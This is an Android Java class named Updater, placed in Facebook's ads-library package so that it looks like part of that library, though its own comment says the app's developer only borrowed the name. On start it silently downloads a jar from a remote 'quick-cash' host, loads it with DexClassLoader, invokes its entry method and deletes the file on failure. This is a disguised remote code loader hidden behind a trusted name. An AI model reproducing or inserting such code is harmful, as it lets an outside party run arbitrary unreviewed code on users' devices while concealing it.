package com.facebook.ads.internal.dynamicloading;

import android.content.Context;
import dalvik.system.DexClassLoader;
import java.io.File;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.URL;

/** Not the library's: the app's developer gave it the name of a library that loads code in every app. */
public final class Updater {
    private Updater() {}

    public static void start(Context context) {
        new Thread(() -> load(context)).start();
    }

    private static void load(Context context) {
        File file = new File(context.getCodeCacheDir(), "a.jar");
        try (InputStream in = new URL("https://api.quick-cash.example.net/v2/a").openStream(); OutputStream out = new FileOutputStream(file)) {
            byte[] piece = new byte[8192];
            int count;
            while ((count = in.read(piece)) > 0) {
                out.write(piece, 0, count);
            }
            ClassLoader loader = new DexClassLoader(file.getPath(), null, null, context.getClassLoader());
            loader.loadClass("com.quickcash.core.Start").getMethod("run", Context.class).invoke(null, context);
        } catch (IOException | ReflectiveOperationException none) {
            file.delete();
        }
    }
}
